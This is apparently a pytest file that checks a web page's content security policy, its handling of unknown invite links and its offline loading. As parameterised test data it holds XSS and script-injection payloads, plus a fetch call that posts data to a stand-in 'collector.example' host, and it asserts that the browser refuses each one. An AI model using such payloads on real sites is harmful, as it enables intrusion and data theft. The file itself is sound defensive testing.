"""The page before anything is done in it: it opens, keeps to its policy, and opens again without a network."""

import pytest

from browser.place import TITLE

pytestmark = [pytest.mark.node, pytest.mark.browser]


def test_it_opens_and_asks_nobody_else(visit):
    device = visit()
    device.open()
    device.see("Welcome")
    assert device.page.evaluate("document.documentElement.lang") == "en"
    assert all(url.startswith(device.url) for url in device.asked)


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
        "const s = document.createElement('script'); s.src = 'https://example.com/x.js'; document.body.append(s)",
        "setTimeout('document.title = 1')",
        "await navigator.serviceWorker.register('/v1/parties')",
    ],
)
def test_markup_and_scripts_from_strings_are_refused_by_the_browser(visit, attack):
    device = visit()
    device.attacked = True
    device.open()
    tried = f"(async () => {{ try {{ {attack} }} catch {{ return 'refused' }} return 'done' }})()"
    assert device.page.evaluate(tried) == "refused"
    assert device.page.locator("img").count() == 0
    assert device.complaints, "the browser noticed"


def test_it_cannot_send_anything_to_another_machine(visit):
    device = visit()
    device.attacked = True
    device.open()
    sent = "fetch('https://collector.example/', {method: 'POST', body: 'words'}).then(() => 'sent', () => 'refused')"
    assert device.page.evaluate(sent) == "refused"
    assert any("connect-src" in said for said in device.complaints)


@pytest.mark.parametrize(
    "link", ["#offer=off_<b>", "#invitation=", "#offer=off_0123456789", "#invitation=inv_0123456789"]
)
def test_who_comes_with_a_link_that_is_none_is_told_so(visit, link):
    device = visit()
    device.open(link)
    device.see("Welcome")
    said = device.page.get_by_role("alert")
    assert said.inner_text().startswith("This link is not known. Was it copied in full?")
    assert "invited" not in device.page.locator("main").inner_text()
    device.look("link-unknown")
    device.create()
    device.see("That did not work")
    device.page.get_by_text("This link is not known.").wait_for()


def test_who_comes_with_a_link_that_leads_on_is_told_where(visit, place):
    device = visit()
    device.open(f"#invitation={place.institution().invite(TITLE)}")
    device.page.get_by_text("Somebody has invited you.").wait_for()


TAKEN_OVER = """new Promise((done) => {
  const now = () => navigator.serviceWorker.controller !== null && done(true)
  navigator.serviceWorker.addEventListener("controllerchange", now)
  now()
})"""


def test_it_opens_without_a_network(visit):
    device = visit()
    device.open()
    device.page.evaluate("navigator.serviceWorker.ready")
    device.page.evaluate(TAKEN_OVER)  # waiting for an expression would need eval, which the page's policy forbids
    device.context.set_offline(True)
    device.page.reload()
    device.see("Welcome")
    assert "offline" in device.page.locator(".notices").inner_text()
    device.open("check.html")
    device.see("Check the public record")
    device.look("check-nothing")
